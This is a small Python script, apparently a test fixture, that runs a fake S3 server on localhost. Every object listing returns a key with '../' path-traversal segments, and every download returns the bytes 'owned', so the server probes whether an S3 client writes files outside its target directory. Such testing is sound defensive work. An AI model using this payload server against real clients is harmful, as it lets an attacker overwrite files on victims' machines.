"""A hostile S3 endpoint: every ListObjectsV2 lists one key that climbs out of its table
(`<prefix>../../../<escape>`); GetObject answers a few bytes. Usage: fake_s3.py PORT ESCAPE_NAME"""
import sys
from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.parse import parse_qs, urlparse
from xml.sax.saxutils import escape

PORT, NAME = int(sys.argv[1]), sys.argv[2]


class H(BaseHTTPRequestHandler):
    def log_message(self, *a):
        pass

    def do_GET(self):
        u = urlparse(self.path)
        q = parse_qs(u.query)
        if "list-type" in q:
            prefix = q.get("prefix", [""])[0]
            key = prefix + "../../../../../../" + NAME
            body = ('<?xml version="1.0" encoding="UTF-8"?><ListBucketResult><Name>b</Name>'
                    f'<Prefix>{escape(prefix)}</Prefix><KeyCount>1</KeyCount><IsTruncated>false</IsTruncated>'
                    f'<Contents><Key>{escape(key)}</Key><Size>5</Size></Contents></ListBucketResult>').encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/xml")
        else:
            body = b"owned"
            self.send_response(200)
            self.send_header("Content-Type", "application/octet-stream")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


HTTPServer(("127.0.0.1", PORT), H).serve_forever()
